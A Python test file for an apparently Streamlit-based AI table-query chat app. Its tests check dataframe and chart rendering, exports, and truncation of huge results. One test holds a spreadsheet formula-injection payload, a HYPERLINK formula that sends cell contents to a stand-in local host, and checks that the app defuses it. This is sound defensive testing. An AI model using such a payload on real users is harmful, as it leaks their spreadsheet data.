"""A question over the theme's CSV: the table result shows as a sortable table in its
Observation, the turn carries a chart, and the exports keep the data."""

import json

from components.export import to_json, to_markdown
from tests.apptest_helpers import assistant_children, new_app

SQL = "SELECT region, SUM(revenue_eur) AS revenue FROM sales_2025 WHERE quarter = 'Q3' GROUP BY region ORDER BY region"
SCRIPT = [
    {
        "text": "Thought: I sum the Q3 revenue by region.",
        "tool_calls": [{"id": "t1", "name": "query_table", "arguments": json.dumps({"sql": SQL})}],
    },
    {"text": "Answer: Q3 revenue by region: France leads with 5,392,300 EUR."},
]


def test_table_result_renders_as_a_dataframe_and_a_chart(app_env):
    app_env.script.extend(SCRIPT)
    at = new_app()
    at.chat_input[0].set_value("Total 2025 revenue by region for Q3?").run()
    assert not at.exception
    frame = at.dataframe[0].value
    assert list(frame.columns) == ["region", "revenue"]
    assert dict(zip(frame["region"], frame["revenue"], strict=True))["France"] == 5392300
    charts = [c for c in assistant_children(at) if "vega" in getattr(c, "type", "")]
    assert len(charts) == 1
    spec = json.loads(charts[0].proto.spec)
    assert spec["encoding"]["x"]["field"] == "region" and spec["mark"]["type"] == "bar"
    conversation = at.session_state["conversation"]
    markdown = to_markdown(conversation)
    assert "| region | revenue |" in markdown and "| France | 5392300 |" in markdown
    exported = json.loads(to_json(conversation))
    table = exported["turns"][1]["tables"][0]
    assert table["columns"] == ["region", "revenue"] and ["France", 5392300] in table["rows"]
    assert exported["turns"][1]["charts"][0]["mark"]["type"] == "bar"


def test_a_huge_table_result_is_kept_cut_and_the_turn_is_saved_answered(app_env, tmp_path):
    from engine.store import ConversationStore

    sql = "SELECT repeat('x', 900) AS label, range AS n FROM range(10000)"  # 10,000 rows of 900 characters
    app_env.script.extend(
        [
            {
                "text": "Thought: I list them.",
                "tool_calls": [{"id": "t1", "name": "query_table", "arguments": json.dumps({"sql": sql})}],
            },
            {"text": "Answer: There are 10,000 rows."},
        ]
    )
    at = new_app()
    at.chat_input[0].set_value("List every row").run()
    assert not at.exception
    conversation = at.session_state["conversation"]
    store = ConversationStore(f"sqlite:///{tmp_path / 'app.db'}")
    record = store.get("local", conversation.id)
    store.close()
    saved = record.turns[-1]
    assert saved["status"] == "answered" and saved["answer"] == "There are 10,000 rows."
    assert len(json.dumps(saved)) < 3 * 1024 * 1024  # once, bounded, far under the 8 MB cap
    assert [c.value for c in at.caption if "rows are kept with this turn" in c.value]


def test_formula_cells_reach_the_dataframe_as_text_and_the_exports_verbatim(app_env):
    # st.dataframe's toolbar downloads the table as CSV (and a copied range pastes into a
    # spreadsheet) verbatim, so cells a spreadsheet would run as formulas get an apostrophe;
    # negative numbers, as numbers or text, are kept. The Markdown and JSON exports are the
    # conversation's record, not spreadsheet files: they keep the cells as the query gave them.
    sql = """SELECT '=HYPERLINK("http://127.0.0.1:9/?d="&A1)' AS "=link", -3.5 AS n, '-3.5' AS t, '@SUM(1)' AS a"""
    app_env.script.extend(
        [
            {
                "text": "Thought: I read the cells.",
                "tool_calls": [{"id": "t1", "name": "query_table", "arguments": json.dumps({"sql": sql})}],
            },
            {"text": "Answer: The value is -3.5."},
        ]
    )
    at = new_app()
    at.chat_input[0].set_value("What is in the cells?").run()
    assert not at.exception
    frame = at.dataframe[0].value
    assert list(frame.columns) == ["'=link", "n", "t", "a"]
    row = frame.iloc[0].to_dict()
    assert row == {"'=link": '\'=HYPERLINK("http://127.0.0.1:9/?d="&A1)', "n": -3.5, "t": "-3.5", "a": "'@SUM(1)"}
    exported = json.loads(to_json(at.session_state["conversation"]))
    assert exported["turns"][1]["tables"][0]["rows"][0][0] == '=HYPERLINK("http://127.0.0.1:9/?d="&A1)'
